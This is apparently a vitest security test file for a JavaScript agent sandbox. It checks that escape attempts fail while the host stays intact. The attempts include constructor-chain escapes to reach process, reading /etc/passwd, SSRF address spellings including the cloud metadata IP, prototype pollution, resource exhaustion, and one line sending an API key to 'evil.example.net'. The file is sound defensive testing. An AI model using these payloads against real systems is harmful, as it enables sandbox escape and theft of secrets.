import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import type { ModelAccess } from '../sdk/context.ts';
import {
  expectFailure,
  expectHealthy,
  expectHostUntouched,
  FAKE_MODELS,
  fakeFetch,
  fakeLookup,
  PUBLIC_LOOKUP,
  runBundle,
} from './fixtures.ts';

/**
 * One test per escape attempt: each ends as a clear failed run, leaves the host's objects as they
 * were, and the same process runs a well-behaved agent right after.
 */

const agent = (body: string) => `export default async function run(ctx, input) {\n${body}\n}`;

/** What a host HTTP server on loopback answers: proof that the host still serves meanwhile. */
function getText(port: number): Promise<string> {
  return new Promise<string>((resolve, reject) => {
    http
      .get(`http://127.0.0.1:${port}/`, (res) => {
        let body = '';
        res.on('data', (chunk: Buffer) => {
          body += chunk.toString();
        });
        res.on('end', () => resolve(body));
      })
      .on('error', reject);
  });
}

describe('the sandbox has no way out to the host', () => {
  it('has no process: reading process.env fails', async () => {
    const run = await runBundle(
      agent(`await ctx.artifact('env.json', JSON.stringify(process.env), 'application/json');`),
    );
    expectFailure(
      run.result,
      'agent_error',
      /^ReferenceError: process is not defined \(the sandbox has no Node\.js/,
    );
    expect(run.result.artifacts.size).toBe(0);
    expectHostUntouched(run);
    await expectHealthy();
  });

  it("has no require: require('fs') fails", async () => {
    const run = await runBundle(
      agent(
        `const fs = require('fs'); await ctx.artifact('p.txt', fs.readFileSync('/etc/passwd', 'utf8'), 'text/plain');`,
      ),
    );
    expectFailure(run.result, 'agent_error', 'require is not defined');
    expectHostUntouched(run);
    await expectHealthy();
  });

  it("has no dynamic import: import('fs') fails", async () => {
    const run = await runBundle(
      agent(`const fs = await import('fs'); await ctx.artifact('p.txt', String(fs), 'text/plain');`),
    );
    expectFailure(run.result, 'agent_error', 'dynamic import() is not available in the sandbox');
    expectHostUntouched(run);
    await expectHealthy();
  });

  it("refuses a bundle with an import: import fs from 'node:fs'", async () => {
    const run = await runBundle(
      `import fs from 'node:fs';\n${agent(`await ctx.artifact('p.txt', fs.readFileSync('/etc/passwd', 'utf8'), 'text/plain');`)}`,
    );
    expectFailure(
      run.result,
      'agent_error',
      'The bundle imports "node:fs": a bundle is one self-contained ES module',
    );
    expectHostUntouched(run);
    await expectHealthy();
  });

  it.each([
    ['the global object', `globalThis.constructor.constructor('return process')()`],
    ['ctx', `ctx.constructor.constructor('return process')()`],
    ['a bridge function', `ctx.log.constructor('return process')()`],
    ['an async bridge function', `ctx.fetch.constructor('return process')()`],
    ['the signal', `Object.getPrototypeOf(ctx.signal).constructor.constructor('return process')()`],
    ['the model function', `Object.getPrototypeOf(ctx.model).constructor('return process')()`],
    [
      'an error from the bridge',
      `(() => { try { ctx.log(Symbol('x')); } catch (e) { return e.constructor.constructor('return process')(); } })()`,
    ],
    [
      'an error from the host',
      `await (async () => { try { await ctx.charge('nope'); } catch (e) { return e.constructor.constructor('return process')(); } })()`,
    ],
    ['sloppy-mode this', `Function('return this')().process`],
    ['eval', `eval('typeof process === "undefined" ? undefined : process')`],
  ])('reaches no host object through %s', async (_, expression) => {
    const run = await runBundle(
      agent(`const p = ${expression};
      await ctx.artifact('escaped.txt', JSON.stringify(Object.keys(p.env)), 'text/plain');`),
    );
    expectFailure(run.result, 'agent_error', /process is not defined|Cannot read properties of undefined/);
    expect(run.result.artifacts.size).toBe(0);
    expectHostUntouched(run);
    await expectHealthy();
  });

  it('has no Intl, whose formatters live outside the memory limit; Date and toLocaleString still work', async () => {
    const run = await runBundle(
      agent(`await ctx.artifact('r.txt', [typeof Intl, typeof globalThis.Intl, new Date(0).toISOString(),
        new Date(0).toLocaleString('en-US', { timeZone: 'Asia/Tokyo' }), (1234.5).toLocaleString('en-US')].join('|'), 'text/plain');`),
    );
    expect(run.result.failure).toBeNull();
    expect(run.result.artifacts.get('r.txt')!.text()).toBe(
      'undefined|undefined|1970-01-01T00:00:00.000Z|1/1/1970, 9:00:00 AM|1,234.5',
    );
    const formatters = await runBundle(
      agent(`const keep = [];
      for (let i = 0; i < 1000; i++) keep.push(new Intl.DateTimeFormat('en-US', { timeZone: ['UTC', 'Asia/Tokyo'][i % 2], dateStyle: 'full', timeStyle: 'full' }));`),
      { code: { memoryMb: 16 } },
    );
    expectFailure(
      formatters.result,
      'agent_error',
      /^ReferenceError: Intl is not defined \(the sandbox has no Intl/,
    );
    expectHostUntouched(formatters);
    await expectHealthy();
  });

  it.each([
    ['SharedArrayBuffer', `new SharedArrayBuffer(8)`, 'SharedArrayBuffer is not defined'],
    ['Atomics', `Atomics.wait(new Int32Array(4), 0, 0)`, 'Atomics is not defined'],
    [
      'WebAssembly',
      `new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true })`,
      'WebAssembly is not defined',
    ],
    ['timers', `await new Promise((r) => setTimeout(r, 1))`, 'setTimeout is not defined'],
    ['a global fetch', `await fetch('https://api.example.com/')`, 'fetch is not defined'],
  ])('has no %s', async (_, statement, message) => {
    const run = await runBundle(agent(`${statement};`));
    expectFailure(run.result, 'agent_error', message);
    expectHostUntouched(run);
    await expectHealthy();
  });

  it('refuses a forbidden host, and the agent cannot catch the refusal and go on', async () => {
    const fetch = fakeFetch();
    const run = await runBundle(
      agent(`try { await ctx.fetch('https://evil.example.net/steal?k=' + ctx.secrets.API_KEY); } catch (e) {}
      await ctx.artifact('after.txt', 'went on', 'text/plain');`),
      { code: { fetch }, local: { secrets: { API_KEY: 'k' } } },
    );
    expectFailure(
      run.result,
      'agent_violation',
      "The agent tried to reach evil.example.net, which is not in its manifest's allowedHosts (api.example.com, *.cdn.example.org).",
    );
    expect(fetch.requests).toHaveLength(0);
    expect(run.result.artifacts.size).toBe(0);
    expectHostUntouched(run);
    await expectHealthy();
  });

  it('refuses http://127.0.0.1 (not https, not a named host)', async () => {
    const fetch = fakeFetch();
    const run = await runBundle(agent(`await ctx.fetch('http://127.0.0.1:5432/');`), { code: { fetch } });
    expectFailure(
      run.result,
      'agent_violation',
      'The agent tried to fetch http://127.0.0.1/: the sandbox only allows https: URLs',
    );
    expect(fetch.requests).toHaveLength(0);
    await expectHealthy();
  });

  it.each([
    ['https://127.0.0.1/', '127.0.0.1, a loopback address'],
    ['https://0x7f.0.0.1/', '127.0.0.1, a loopback address'],
    ['https://2130706433/', '127.0.0.1, a loopback address'],
    ['https://0177.0.0.1/', '127.0.0.1, a loopback address'],
    ['https://127.1/', '127.0.0.1, a loopback address'],
    ['https://[::1]/', '[::1], a loopback address'],
    ['https://[::ffff:127.0.0.1]/', '[::ffff:7f00:1], a loopback address'],
    ['https://169.254.169.254/latest/meta-data/', '169.254.169.254, a link-local address'],
    ['https://0.0.0.0/', '0.0.0.0, an unspecified'],
    ['https://100.64.0.1/', '100.64.0.1, a carrier-grade NAT'],
  ])('refuses an IP address however it is spelled: %s', async (url, named) => {
    const fetch = fakeFetch();
    const run = await runBundle(agent(`await ctx.fetch(${JSON.stringify(url)});`), { code: { fetch } });
    expectFailure(run.result, 'agent_violation', `The agent tried to reach ${named}`);
    expect(fetch.requests).toHaveLength(0);
    await expectHealthy();
  });

  it.each([
    ['api.example.com', ['127.0.0.1'], 'resolves to 127.0.0.1, a loopback address'],
    ['img.cdn.example.org', ['::ffff:10.0.0.7'], 'resolves to ::ffff:10.0.0.7, a private address'],
    ['api.example.com', ['93.184.216.34', '192.168.1.10'], 'resolves to 192.168.1.10, a private address'],
    [
      'api.example.com',
      ['2606:2800:220:1::1', 'fd00::1'],
      'resolves to fd00::1, a private (unique local) address',
    ],
  ])(
    'refuses an allowed name that resolves to a private address: %s → %s',
    async (host, addresses, named) => {
      const fetch = fakeFetch();
      const run = await runBundle(agent(`await ctx.fetch('https://${host}/v1');`), {
        code: { fetch, lookup: fakeLookup({ [host]: addresses }) },
      });
      expectFailure(run.result, 'agent_violation', `The agent tried to reach ${host}, which ${named}`);
      expect(fetch.requests).toHaveLength(0);
      await expectHealthy();
    },
  );

  it('stops an infinite loop at the CPU limit while the host keeps serving', async () => {
    const server = http.createServer((_, res) => res.end('alive'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    let loopStarted!: () => void;
    const started = new Promise<void>((resolve) => {
      loopStarted = resolve;
    });
    const fetch = fakeFetch(() => {
      loopStarted();
      return new Response('');
    });
    let ended = false;
    try {
      // The fetch is not awaited: the host sees it while the isolate is already in the loop.
      const running = runBundle(agent(`ctx.fetch('https://api.example.com/spinning'); while (true) {}`), {
        code: { fetch, cpuTimeMs: 1000, lookup: PUBLIC_LOOKUP },
      }).finally(() => {
        ended = true;
      });
      await started;
      const answer = await getText(port);
      expect(answer).toBe('alive');
      expect(ended).toBe(false);
      const run = await running;
      expectFailure(run.result, 'agent_timeout', 'The agent used more than its CPU time limit of 1000 ms.');
      expect(run.result.status).toBe('timed_out');
      expectHostUntouched(run);
    } finally {
      server.close();
    }
    await expectHealthy();
  });

  it.each([
    [
      'ctx.ask',
      `await ctx.ask('q', { type: 'object', properties: {}, x: a });`,
      'ctx.ask: the answer schema',
    ],
    ['ctx.model', `await ctx.model({ prompt: 'q', schema: { type: 'object', x: a } });`, 'ctx.model: schema'],
  ])(
    'serializes a %s schema in the isolate: a sparse array costs the agent, while the host keeps serving',
    async (_, call, what) => {
      const server = http.createServer((_, res) => res.end('alive'));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const { port } = server.address() as AddressInfo;
      try {
        // The array holds nothing but claims 10^8 elements: as JSON, 500 MB of "null,".
        const running = runBundle(agent(`ctx.log('sending'); const a = []; a.length = 1e8;\n${call}`), {
          models: FAKE_MODELS,
        });
        const answer = await getText(port);
        expect(answer).toBe('alive');
        const run = await running;
        expectFailure(run.result, 'agent_error', `RangeError: ${what} is larger than 262144 bytes as JSON.`);
        expect(run.result.logs).toEqual([{ level: 'info', message: 'sending' }]);
        expectHostUntouched(run);
      } finally {
        server.close();
      }
    },
    5000,
  );

  it('stops a loop in the bundle’s top-level code at the CPU limit', async () => {
    const run = await runBundle(`for (;;) {}\nexport default async () => {};`, { code: { cpuTimeMs: 200 } });
    expectFailure(run.result, 'agent_timeout', 'The agent used more than its CPU time limit of 200 ms.');
    await expectHealthy();
  });

  it('disposes an agent that ignores the signal when the run is cancelled', async () => {
    const controller = new AbortController();
    const fetch = fakeFetch(() => {
      controller.abort();
      return new Response('');
    });
    const run = await runBundle(
      agent(`ctx.fetch('https://api.example.com/'); for (;;) { if (false) break; }`),
      {
        code: { fetch, cpuTimeMs: 60_000 },
        local: { signal: controller.signal },
      },
    );
    expect(run.result.status).toBe('cancelled');
    const ended = await run.settled;
    expect(ended).toBeInstanceOf(Error);
    expect((ended as Error).message).toBe('The run has stopped.');
    await expectHealthy();
  });

  it('stops an agent that floods the bridge with calls', async () => {
    const run = await runBundle(agent(`for (;;) { try { await ctx.charge(1); } catch {} }`), {
      code: { limits: { maxBridgeCalls: 200 } },
    });
    expectFailure(
      run.result,
      'agent_violation',
      "The agent made more than 200 calls to ctx, the sandbox's limit per run.",
    );
    expectHostUntouched(run);
    await expectHealthy();
  });

  it.each([
    ['growing arrays', `const keep = []; for (;;) keep.push(new Array(100000).fill(Math.random()));`],
    [
      'growing strings',
      `const keep = []; let s = 'x'; for (;;) { s = s + s.slice(0, 1 << 20) + Math.random(); keep.push(s.split('')); }`,
    ],
    ['array buffers', `const keep = []; for (;;) keep.push(new Uint8Array(4 * 1024 * 1024).fill(1));`],
  ])('stops an agent past its memory limit: %s', async (_, body) => {
    const run = await runBundle(agent(body), { code: { memoryMb: 16 } });
    expectFailure(run.result, 'agent_violation', 'The agent used more than its memory limit of 16 MB.');
    expectHostUntouched(run);
    await expectHealthy();
  });

  it.each([
    [
      'an artifact name with __proto__',
      `await ctx.artifact(JSON.parse('{"__proto__": {"polluted": true}}'), 'x', 'text/plain');`,
      'TypeError: ctx.artifact: the name must be a string.',
    ],
    [
      'artifact content with __proto__ and constructor keys',
      `await ctx.artifact('a.txt', JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}'), 'text/plain');`,
      'TypeError: ctx.artifact: the content must be a string, a Uint8Array or an ArrayBuffer.',
    ],
    [
      'a log message with a throwing toString',
      `ctx.log({ toString() { throw new Error('boom'); } });`,
      "TypeError: toString() { throw new Error('boom'); } could not be cloned.",
    ],
    [
      'a log message with a getter',
      `ctx.log({ get message() { Object.prototype.polluted = true; return 'x'; } });`,
      'TypeError: ctx.log: the message must be a string.',
    ],
    [
      'a charge with getters',
      `await ctx.charge({ get length() { return 1; }, toString() { return 'page'; } }, { valueOf() { return 1; } });`,
      "TypeError: toString() { return 'page'; } could not be cloned.",
    ],
    [
      'a Proxy',
      `await ctx.charge(new Proxy({}, { get: () => { throw new Error('trap'); } }));`,
      'TypeError: #<Object> could not be cloned.',
    ],
    [
      'a model request with __proto__',
      `await ctx.model(JSON.parse('{"prompt": "hi", "__proto__": {"isAdmin": true}}'));`,
      'TypeError: ctx.model: the request has an unknown field "__proto__".',
    ],
  ])('refuses %s in the isolate or on the host, before the platform is called', async (_, body, message) => {
    const run = await runBundle(agent(body), { models: FAKE_MODELS });
    expectFailure(run.result, 'agent_error', message);
    expect(run.result.failure!.message).toBe(message);
    expect(run.result.logs).toEqual([]);
    expect(run.result.charges).toEqual([]);
    expect(run.result.modelCalls).toEqual([]);
    expectHostUntouched(run);
    await expectHealthy();
  });

  it('sends fetch headers given as an object with __proto__ as plain name/value pairs', async () => {
    const fetch = fakeFetch();
    const run = await runBundle(
      agent(
        `await ctx.fetch('https://api.example.com/', { headers: JSON.parse('{"__proto__": {"polluted": "1"}}') });`,
      ),
      { code: { fetch } },
    );
    expect(run.result.status).toBe('succeeded');
    expect(fetch.requests.map((r) => r.headers)).toEqual([[['__proto__', '[object Object]']]]);
    expectHostUntouched(run);
  });

  it('drops __proto__ keys from a schema before the platform sees it', async () => {
    const asked: unknown[] = [];
    const run = await runBundle(
      agent(
        `await ctx.ask('q', JSON.parse('{"type": "object", "properties": {"a": {"type": "string", "title": "A", "__proto__": {"polluted": true}}}, "__proto__": {"polluted": true}}'));`,
      ),
      {
        local: {
          answer: (_, schema) => {
            asked.push(schema);
            return undefined;
          },
        },
      },
    );
    expectFailure(run.result, 'question_unanswered', 'No answer to "q".');
    expect(asked).toEqual([
      {
        type: 'object',
        properties: { a: { type: 'string', title: 'A', editor: 'text' } },
        required: [],
        additionalProperties: false,
      },
    ]);
    expectHostUntouched(run);
  });

  it('hands the host JSON without __proto__ keys, so that copying it by assignment cannot set a prototype', async () => {
    // A JSON value parsed as is keeps "__proto__" as an own key; host code that copies it by assignment
    // (Object.assign, a merge, `out[key] = value`) would then set the copy's prototype to the agent's
    // object. Nothing on the sandbox's host path copies agent JSON that way today (zod drops the key
    // from answer schemas); the bridge makes sure none ever receives one.
    let received: Record<string, unknown> | undefined;
    const models: ModelAccess = {
      unavailable: null,
      generate: async (request) => {
        received = request.schema;
        return {
          text: 'ok',
          model: 'fake/model',
          usage: { inputTokens: 1, outputTokens: 1 },
          costMicroCredits: 1n,
        };
      },
    };
    const run = await runBundle(
      agent(
        `await ctx.model({ prompt: 'x', schema: JSON.parse('{"type": "object", "__proto__": {"isAdmin": true}, "properties": {"a": {"__proto__": {"polluted": true}}}}') });`,
      ),
      { models },
    );
    expect(run.result.status).toBe('succeeded');
    const copy: Record<string, unknown> = Object.assign({}, received);
    const inner: Record<string, unknown> = Object.assign({}, copy.properties as Record<string, unknown>)
      .a as Record<string, unknown>;
    const innerCopy: Record<string, unknown> = Object.assign({}, inner);
    expect(Object.getPrototypeOf(copy)).toBe(Object.prototype);
    expect(copy.isAdmin).toBeUndefined();
    expect(Object.getPrototypeOf(innerCopy)).toBe(Object.prototype);
    expect(innerCopy.polluted).toBeUndefined();
    expect(received).toEqual({ type: 'object', properties: { a: {} } });
    expectHostUntouched(run);
  });

  it('fails cleanly when the agent pollutes its own realm, and the host realm stays clean', async () => {
    const run = await runBundle(
      agent(`Object.prototype.polluted = true;
      Object.prototype.isAdmin = true;
      Object.prototype.toJSON = function () { return 'hijacked'; };
      Array.prototype.push = function () { throw new Error('no push'); };
      try { ctx.__proto__ = { log() {} }; } catch {}
      try { Object.setPrototypeOf(ctx, null); } catch {}
      try { ctx.log = () => {}; } catch {}
      Object.prototype.then = function (resolve) { resolve('hijacked'); };
      ctx.log('after pollution');
      await ctx.artifact('a.txt', 'x', 'text/plain');`),
    );
    expect(run.result.status).toBe('failed');
    expect(run.result.failure!.code).toBe('agent_error');
    expect(run.result.logs).toEqual([{ level: 'info', message: 'after pollution' }]);
    expectHostUntouched(run);
    await expectHealthy();
  });
});
